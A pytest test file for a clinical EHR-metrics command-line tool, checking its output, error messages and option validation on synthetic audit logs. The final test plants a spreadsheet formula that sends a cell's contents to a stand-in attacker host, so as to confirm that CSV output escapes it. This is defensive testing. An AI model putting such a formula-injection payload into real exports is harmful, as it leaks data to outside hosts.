"""``clinwell ehr metrics``."""

from __future__ import annotations

from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

from clinwell.cli import app
from clinwell.ehr import read_metadata
from clinwell.synth.audit_log import AuditLogSpec, write_audit_log

runner = CliRunner()


def _log(tmp_path: Path) -> Path:
    d = tmp_path / "log"
    write_audit_log(AuditLogSpec(clinicians=3, days=14, seed=8), d)
    return d


def _metrics_args(d: Path, out: Path, *extra: str) -> list[str]:
    """``ehr metrics`` on the synthetic log in ``d``, writing ``out``, plus ``extra`` options."""
    events, schedule = str(d / "events.parquet"), str(d / "schedule.parquet")
    return ["ehr", "metrics", "--events", events, "--schedule", schedule, *extra, "-o", str(out)]


def test_metrics_recovers_truth_and_stores_parameters(tmp_path: Path) -> None:
    d = _log(tmp_path)
    out = tmp_path / "m.parquet"
    args = _metrics_args(
        d,
        out,
        *("--actions", str(d / "actions.csv"), "--orders", str(d / "orders.parquet")),
        *("--period", "month", "--idle-timeout", "300"),
    )
    result = runner.invoke(app, args)
    assert result.exit_code == 0, result.output
    got = pd.read_parquet(out)
    truth = pd.read_parquet(d / "truth_month.parquet")
    pd.testing.assert_frame_equal(got, truth, check_exact=True)
    assert read_metadata(out)["parameters"]["period"] == "month"
    assert (tmp_path / "m.params.json").exists()
    assert "EHR metrics" in result.output


def test_metrics_csv_output_and_clock_mode(tmp_path: Path) -> None:
    d = _log(tmp_path)
    out = tmp_path / "m.csv"
    args = [
        "ehr",
        "metrics",
        "--events",
        str(d / "events.parquet"),
        "--schedule",
        str(d / "schedule.parquet"),
        "--wow",
        "clock",
        "-o",
        str(out),
    ]
    result = runner.invoke(app, args)
    assert result.exit_code == 0, result.output
    got = pd.read_csv(out)
    truth = pd.read_parquet(d / "truth_week_clock.parquet")
    assert got["wow_hours"].tolist() == truth["wow_hours"].tolist()


def test_missing_column_is_a_clear_error(tmp_path: Path) -> None:
    d = _log(tmp_path)
    bad = tmp_path / "bad.csv"
    bad.write_text("who,when\nA,2024-01-01\n", encoding="utf-8")
    args = [
        "ehr",
        "metrics",
        "--events",
        str(bad),
        "--schedule",
        str(d / "schedule.parquet"),
        "-o",
        str(tmp_path / "m.parquet"),
    ]
    result = runner.invoke(app, args)
    assert result.exit_code == 2
    assert "bad.csv" in result.output
    assert "clinician_id" in result.output
    assert "Traceback" not in result.output
    assert not (tmp_path / "m.parquet").exists()


def test_strict_mode_stops_on_bad_rows(tmp_path: Path) -> None:
    d = _log(tmp_path)
    events = pd.read_parquet(d / "events.parquet")
    events["event_time"] = events["event_time"].astype(str)
    events.loc[3, "event_time"] = "yesterday"
    events.to_csv(tmp_path / "e.csv", index=False)
    args = [
        "ehr",
        "metrics",
        "--events",
        str(tmp_path / "e.csv"),
        "--schedule",
        str(d / "schedule.parquet"),
        "--actions",
        str(d / "actions.csv"),
        "-o",
        str(tmp_path / "m.parquet"),
    ]
    strict = runner.invoke(app, [*args, "--strict"])
    assert strict.exit_code == 2
    assert "yesterday" in strict.output
    lenient = runner.invoke(app, args)
    assert lenient.exit_code == 0, lenient.output
    assert "1 timestamps that cannot be parsed" in lenient.output


@pytest.mark.parametrize(
    ("option", "value", "reason"),
    [
        ("--idle-timeout", "0", "must be positive"),
        ("--clock-start", "25:00", "expected a time of day as HH:MM, got '25:00'"),
        ("--clock-end", "06:00", "must be after clock_start"),
        ("--clock-days", "0,9", "expected distinct days 0–6"),
        ("--clock-days", "mon,tue", "expected day numbers like 0,1,2,3,4"),
        ("--buffer-minutes", "-5", "expected whole minutes"),
        ("--memory-limit", "lots", "expected a size such as 8GB or 50%"),
        ("-o", "m.txt", "expected a .parquet or .csv file name"),
        ("--period", "fortnight", "expected 'week' or 'month'"),
        ("--wow", "moon", "expected 'schedule' or 'clock'"),
        ("--time-zone", "Mars/Olympus_Mons", "unknown time zone"),
    ],
)
def test_invalid_option_is_one_clear_line_and_exit_2(
    tmp_path: Path, option: str, value: str, reason: str
) -> None:
    """An invalid option value names the option in one line (no traceback), exits with
    status 2 like any usage error, and writes no output file."""
    d = _log(tmp_path)
    out = tmp_path / "m.parquet"
    if option == "-o":
        args = _metrics_args(d, tmp_path / value)
    else:
        args = _metrics_args(d, out, option, value)
    result = runner.invoke(app, args)
    assert result.exit_code == 2, result.output
    assert isinstance(result.exception, SystemExit)
    assert "Traceback" not in result.output
    (line,) = result.output.strip().splitlines()
    named = "--output" if option == "-o" else option
    assert line.startswith(f"Error: invalid value for {named}: ")
    assert reason in line
    assert sorted(p.name for p in tmp_path.iterdir()) == ["log"]  # no output, no sidecar


def test_metrics_csv_keeps_a_formula_like_clinician_id_as_text(tmp_path: Path) -> None:
    """``-o metrics.csv`` opened in a spreadsheet: an id like =HYPERLINK(...) stays text."""
    import csv

    d = _log(tmp_path)
    formula = '=HYPERLINK("http://evil.example/?x="&A2,"Open")'
    first = str(pd.read_parquet(d / "events.parquet")["clinician_id"].iloc[0])
    for name in ("events.parquet", "schedule.parquet"):
        frame = pd.read_parquet(d / name)
        frame["clinician_id"] = frame["clinician_id"].astype(str).replace(first, formula)
        frame.to_parquet(d / name, index=False)
    out = tmp_path / "m.csv"
    result = runner.invoke(app, _metrics_args(d, out))
    assert result.exit_code == 0, result.output
    with out.open(newline="", encoding="utf-8") as fh:
        ids = {row["clinician_id"] for row in csv.DictReader(fh)}
    assert "'" + formula in ids
    assert formula not in ids
